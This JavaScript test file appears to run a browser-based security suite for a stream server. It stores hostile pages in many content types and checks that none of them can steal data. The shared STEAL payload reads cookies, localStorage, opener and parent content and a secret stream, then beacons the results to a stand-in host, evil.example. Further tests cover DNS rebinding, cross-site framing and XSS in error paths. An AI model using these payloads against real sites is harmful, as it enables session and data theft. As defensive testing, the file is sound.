// Pages that steal, in Chromium.
//
// A writer of `a/` stores pages there, in every type that a browser renders; a user with all rights opens them: with a
// cookie, in a tab, in a frame of another site, from the live page. Whatever a page gets hold of it sends to the collector. Then a server without
// tokens: pages of other sites, and one whose name leads to 127.0.0.1.

import { spawn } from "node:child_process"
import { mkdtempSync, readFileSync } from "node:fs"
import http from "node:http"
import { tmpdir } from "node:os"
import { join } from "node:path"
import { chromium } from "playwright-core"
import { ADMIN, BASE, WRITER, address, ask, check, eventually, pause } from "./attack.mjs"

// ---- the thief's side

const hits = []
const collector = http.createServer((request, response) => {
  let body = ""
  request.on("data", (chunk) => (body += chunk)).on("end", () => {
    hits.push(`${request.method} ${request.url} ${request.headers.referer ?? ""} ${body}`)
    response.writeHead(200, { "access-control-allow-origin": "*", "content-type": "text/html" }).end(site[request.url.split("?")[0]] ?? "")
  })
})
const site = {}
await new Promise((done) => collector.listen(0, "127.0.0.1", done))
const thief = `http://evil.example:${collector.address().port}`

/** Every script's attempt: read with the browser's credentials, and send the result. */
const STEAL = `
  const tell = (what) => { new Image().src = "${thief}/got?" + encodeURIComponent(what); try { navigator.sendBeacon("${thief}/got", what) } catch {} };
  tell("ran " + location.href);
  for (const credentials of ["include", "same-origin"])
    fetch("/v1/stream/secret/plan", { credentials }).then((r) => r.text()).then(tell, () => {});
  try { tell("cookie " + document.cookie) } catch {}
  try { tell("opener " + opener.document.body.innerText) } catch {}
  try { tell("parent " + parent.document.body.innerText) } catch {}
  try { tell("storage " + JSON.stringify(localStorage)) } catch {}
  try { navigator.serviceWorker.register("/v1/stream/a/worker", { scope: "/v1/stream/" }).then(() => tell("worker"), () => {}) } catch {}
  try { new Worker("/v1/stream/a/worker").onmessage = (e) => tell(e.data) } catch {}
  const frame = document.createElement("iframe"); frame.src = "/v1/stream/secret/plan";
  frame.onload = () => { try { tell(frame.contentDocument.body.innerText) } catch {} };
  (document.body ?? document.documentElement).appendChild(frame);
`
const inert = `<a id=link href="${thief}/clicked" referrerpolicy=unsafe-url>a link</a><form id=form action="${thief}/sent" method=post><input name=x value=1></form>`
const PAGES = {
  html: ["text/html", `<!doctype html><title>x</title><body>${inert}<script>${STEAL}</script><img src=x onerror="${STEAL.replaceAll('"', "&quot;")}"><meta http-equiv=refresh content="0;url=${thief}/refreshed">`],
  utf7: ["text/html;charset=utf-7", `+ADw-script+AD4-fetch('${thief}/got?utf7')+ADw-/script+AD4-<script>${STEAL}</script>`],
  xhtml: ["application/xhtml+xml", `<html xmlns="http://www.w3.org/1999/xhtml"><body><script><![CDATA[${STEAL}]]></script></body></html>`],
  svg: ["image/svg+xml", `<svg xmlns="http://www.w3.org/2000/svg" onload="fetch('${thief}/got?onload')"><script><![CDATA[${STEAL}]]></script><foreignObject><body xmlns="http://www.w3.org/1999/xhtml"><iframe src="javascript:fetch('${thief}/got?frame')"/></body></foreignObject></svg>`],
  xml: ["application/xml", `<?xml version="1.0"?><?xml-stylesheet type="text/xsl" href="/v1/stream/a/xslt"?><x/>`],
  textxml: ["text/xml", `<x xmlns:h="http://www.w3.org/1999/xhtml"><h:script><![CDATA[${STEAL}]]></h:script></x>`],
  xslt: ["text/xsl", `<xsl:stylesheet version="1.0" xmlns:xsl="http://www.w3.org/1999/XSL/Transform"><xsl:template match="/"><html><body><script>${STEAL.replaceAll("&", "&amp;").replaceAll("<", "&lt;")}</script></body></html></xsl:template></xsl:stylesheet>`],
  pdf: ["application/pdf", `%PDF-1.7\n1 0 obj<</Type/Catalog/OpenAction<</S/URI/URI(${thief}/got?pdf)>>/Pages 2 0 R>>endobj 2 0 obj<</Type/Pages/Kids[]/Count 0>>endobj trailer<</Root 1 0 R>>`],
  mhtml: ["multipart/related", `Content-Type: text/html\r\n\r\n<script>${STEAL}</script>`],
  unknown: ["application/octet-stream", `<!doctype html><script>${STEAL}</script>`],
  plain: ["text/plain", `<!doctype html><script>${STEAL}</script>`],
  worker: ["text/javascript", `self.postMessage && fetch("/v1/stream/secret/plan").then((r) => r.text()).then((t) => fetch("${thief}/got?" + t)); self.onfetch = () => {}`],
}
for (const [name, [type, body]] of Object.entries(PAGES)) {
  const put = await ask(`/v1/stream/a/${name}`, { token: WRITER, method: "PUT", headers: { "content-type": type }, body })
  if (put.status !== 201) check(`${name} is stored`, false, `${put.status} ${put.text}`)
}
await ask("/v1/stream/secret/plan", { token: ADMIN, method: "PUT", headers: { "content-type": "text/plain" }, body: "THE SECRET PLAN" })

// ---- the victim's side

const browser = await chromium.launch({
  executablePath: process.env.CHROMIUM,
  // New versions ask before a page may reach loopback; this test is about the server's own protection.
  args: ["--no-sandbox", "--disable-dev-shm-usage", "--host-resolver-rules=MAP *.example 127.0.0.1", "--disable-features=LocalNetworkAccessChecks"],
})
const viewer = JSON.parse((await ask("/v1/token", { token: ADMIN, method: "POST", body: '{"prefix":"*","ttl":"1h"}' })).text).access_token
const context = await browser.newContext()
await context.addCookies([{ name: "thalweg_token", value: viewer, url: BASE }])
const worked = () => hits.filter((hit) => /^\w+ \/(got|refreshed|sent|clicked)/.test(hit))
const nothing = async (claim) => {
  await pause(600)
  check(claim, worked().length === 0 && !hits.some((hit) => hit.includes("SECRET") || hit.includes(viewer)), worked().join(" | "))
  hits.length = 0
}

// Chromium may never say that a page is closed that was about to be another one.
const shut = (one) => Promise.race([one.close(), pause(3000)])

// The trap must be able to snap: as a page of its own, on a site that lets it, the same script reports.
{
  // It reports to a place of its own: its beacons may arrive when the page is long closed, and must not count against a stored page.
  site["/page"] = PAGES.html[1].replaceAll("/v1/stream/secret/plan", "/plan").replaceAll("/got", "/trap").replaceAll("/refreshed", "/elsewhere")
  site["/plan"] = "A PLAN"
  const page = await context.newPage()
  await page.goto(`${thief}/page`)
  check("where it may, the same page steals", await eventually(() => hits.some((hit) => hit.startsWith("POST /trap") && hit.endsWith("A PLAN"))), hits.join(" | "))
  await shut(page)
  hits.length = 0
}
{
  const page = await context.newPage()
  await page.goto(`${BASE}/v1/stream/secret/plan`)
  check("the victim may read what is to be stolen", (await page.textContent("body")).includes("THE SECRET PLAN"))
  await shut(page)
}
for (const name of Object.keys(PAGES)) {
  for (const query of ["", "?offset=-1", "?offset=-1&live=long-poll"]) {
    const page = await context.newPage()
    await page.goto(`${BASE}/v1/stream/a/${name}${query}`).catch(() => {})
    // Actions of a person there.
    await page.click("#link", { timeout: 300 }).catch(() => {})
    await page.evaluate(() => document.getElementById("form")?.submit()).catch(() => {})
    await pause(150)
    // A followed link is no embedding: the cookie does not travel with it, nor does the address have a token.
    for (let at = hits.length - 1; at >= 0; at--) if (/^GET \/clicked/.test(hits[at]) && !hits[at].includes("tws1.")) hits.splice(at, 1)
    await shut(page)
  }
  await nothing(`a stored page of ${PAGES[name][0]} does nothing`)
}
for (const name of ["html", "svg", "xml"]) {
  const page = await context.newPage()
  const opened = await page.goto(`${BASE}/v1/stream/a/${name}?access_token=${viewer}`).catch(() => undefined)
  check(`an address with a token opens no ${name}`, opened?.status() === 401, opened?.status())
  await shut(page)
}
await nothing("and tells its token to nobody")
{
  // In frames and windows of the thief's own page, which the victim looks at.
  site["/frames"] = `<body>${Object.keys(PAGES).map((name) => `<iframe src="${BASE}/v1/stream/a/${name}"></iframe><object data="${BASE}/v1/stream/a/${name}"></object><embed src="${BASE}/v1/stream/a/${name}">`).join("")}
    <iframe id=live src="${BASE}/"></iframe>
    <script>
      addEventListener("message", (e) => fetch("/got?message" + e.data));
      const other = open("${BASE}/v1/stream/secret/plan");
      const live = open("${BASE}/");
      setTimeout(() => { for (const w of [other, live]) { try { const t = w.document.body.innerText; if (t) fetch("/got?" + t) } catch {} } }, 700);
      setTimeout(() => { try { if (live && !live.closed && live.length >= 0 && live.opener) fetch("/got?opener") } catch {} }, 700);
      fetch("${BASE}/v1/stream/secret/plan", { credentials: "include" }).then((r) => r.text()).then((t) => fetch("/got?" + t), () => {});
      for (const tag of ["script", "img"]) { const e = document.createElement(tag); e.src = "${BASE}/v1/stream/secret/plan"; document.body.append(e) }
    </script>`
  const page = await context.newPage()
  await page.goto(`${thief}/frames`)
  await page.click("body")
  await pause(1500)
  check("the live page is in nobody's frame", !(await page.frames().find((frame) => frame.url() === `${BASE}/`)?.textContent("body").catch(() => ""))?.includes("Appends"))
  await shut(page)
  await nothing("frames, windows and requests of another site get nothing")
}
{
  // From the live page, where the victim is at home: its policy lets nothing in.
  const page = await context.newPage()
  await page.goto(BASE)
  check("the live page is there", (await page.title()).length > 0)
  const loaded = await page.evaluate(async (base) => {
    const script = document.createElement("script")
    script.src = `${base}/v1/stream/a/worker`
    const ran = new Promise((done) => ((script.onload = () => done("ran")), (script.onerror = () => done("blocked"))))
    document.head.append(script)
    const worker = await navigator.serviceWorker?.register(`${base}/v1/stream/a/worker`, { scope: "/v1/stream/a/" }).then(() => "registered", () => "refused")
    const spawned = await new Promise((done) => {
      try {
        const one = new Worker(`${base}/v1/stream/a/worker`)
        one.onerror = () => done("blocked")
        one.onmessage = () => done("ran")
        setTimeout(() => done("silent"), 1000)
      } catch {
        done("blocked")
      }
    })
    return [await ran, worker ?? "none", spawned, String(window.opener)]
  }, BASE)
  check("the live page runs no stored script, as worker neither", loaded[0] === "blocked" && loaded[1] !== "registered" && loaded[2] !== "ran", loaded.join(" "))
  await shut(page)
  await nothing("and sends nothing away")
}
for (const path of [`/v1/stream/%3Cscript%3Ealert(1)%3C/script%3E`, `/%3Cscript%3Ealert(1)%3C/script%3E`, `/v1/stream/a?offset=%3Cscript%3E`, "/v1/token?%3Cscript%3E"]) {
  const page = await context.newPage()
  let ran = false
  page.on("dialog", (dialog) => ((ran = true), dialog.dismiss()))
  const answer = await page.goto(BASE + path).catch(() => undefined)
  const type = answer?.headers()["content-type"] ?? ""
  check(`an error says ${path} and runs nothing`, !ran && /json|text\/plain/.test(type) && answer.headers()["content-security-policy"]?.includes("sandbox"), type)
  await shut(page)
}
await shut(context)

// ---- a server without tokens, on the same machine as the browser

const folder = mkdtempSync(join(tmpdir(), "thalweg-attack-"))
const server = spawn(process.env.THALWEG_BIN, ["dev", "--listen", "127.0.0.1:0", "--data", join(folder, "data"), "--ready-file", join(folder, "ready")], { stdio: "ignore" })
try {
  await eventually(() => {
    try {
      return readFileSync(join(folder, "ready"), "utf8").trim()
    } catch {
      return false
    }
  })
  const local = `http://${readFileSync(join(folder, "ready"), "utf8").trim()}`
  const port = new URL(local).port
  await fetch(`${local}/v1/stream/secret/plan`, { method: "PUT", headers: { "content-type": "text/plain" }, body: "THE SECRET PLAN" })
  await fetch(`${local}/v1/stream/secret/script`, { method: "PUT", headers: { "content-type": "text/javascript" }, body: "window.stolen = 'THE SECRET PLAN'" })
  await fetch(`${local}/v1/stream/secret/image`, { method: "PUT", headers: { "content-type": "image/svg+xml" }, body: '<svg xmlns="http://www.w3.org/2000/svg" width="7" height="7"/>' })
  const page = await (await browser.newContext()).newPage()
  /** A page's attempts on `at`: read, embed, write, delete, list, back up. */
  const tries = (at) =>
    page.evaluate(async (at) => {
      const got = {}
      const tell = (name, promise) => promise.then(async (r) => (got[name] = `${r.status} ${r.type === "opaque" ? "opaque" : await r.text()}`), (e) => (got[name] = `failed ${e.message}`))
      await tell("read", fetch(`${at}/v1/stream/secret/plan`))
      await tell("list", fetch(`${at}/v1/stream/__ds/streams`))
      await tell("metrics", fetch(`${at}/metrics`))
      await tell("plant", fetch(`${at}/v1/stream/planted`, { method: "PUT" }))
      await tell("append", fetch(`${at}/v1/stream/secret/plan`, { method: "POST", mode: "no-cors", headers: { "content-type": "text/plain" }, body: "by a page" }))
      await tell("delete", fetch(`${at}/v1/stream/secret/plan`, { method: "DELETE" }))
      await tell("backup", fetch(`${at}/v1/admin/backup`, { method: "POST", mode: "no-cors" }))
      await tell("shapes", fetch(`${at}/v1/shape?table=users&offset=-1`))
      const load = (tag, path) => new Promise((done) => {
        const e = Object.assign(document.createElement(tag), { onload: () => done("loaded"), onerror: () => done("failed"), src: `${at}${path}` })
        document.body.append(e)
        setTimeout(() => done("nothing"), 1500)
      })
      got.script = `${await load("script", "/v1/stream/secret/script")} ${window.stolen ?? ""}`
      got.image = await load("img", "/v1/stream/secret/image")
      return got
    }, at)
  const stole = (got) => Object.values(got).some((text) => text.includes("SECRET") || text.includes('"name"') || text.includes("thalweg_streams")) || got.image === "loaded" || /^20/.test(got.plant)

  site["/cross"] = "<body>"
  await page.goto(`${thief}/cross`)
  const cross = await tries(local)
  check("a page of another site gets nothing from a server without tokens", !stole(cross), JSON.stringify(cross))

  // Its name leads here now: same origin, says the browser, and asks with the page's own name.
  await page.route(`http://rebound.example:${port}/page`, (route) => route.fulfill({ contentType: "text/html", body: "<body>" }))
  await page.goto(`http://rebound.example:${port}/page`)
  const rebound = await tries("")
  check("a page that lets its name resolve to 127.0.0.1 gets nothing", !stole(rebound) && /^403 .*host_not_allowed/.test(rebound.read), JSON.stringify(rebound))
  check("and is told how its owner could let it", /--allow-host rebound\.example/.test(rebound.read), rebound.read)

  const kept = await (await fetch(`${local}/v1/stream/secret/plan`)).text()
  check("nothing was written or deleted by either", kept === "THE SECRET PLAN" && (await fetch(`${local}/v1/stream/planted`)).status === 404, kept)

  // A developer's own page, on another port.
  await page.route("http://localhost:5999/page", (route) => route.fulfill({ contentType: "text/html", body: "<body>" }))
  await page.goto("http://localhost:5999/page")
  const own = await page.evaluate((at) => fetch(`${at}/v1/stream/secret/plan`).then((r) => r.text()), local)
  check("a page of this machine is served", own === "THE SECRET PLAN", own)
  await page.goto(local)
  check("and so is the live page", await eventually(async () => (await page.textContent("#state").catch(() => "")) === "serving"))
} finally {
  server.kill("SIGKILL")
  await shut(browser)
  collector.close()
}
process.exit(0)
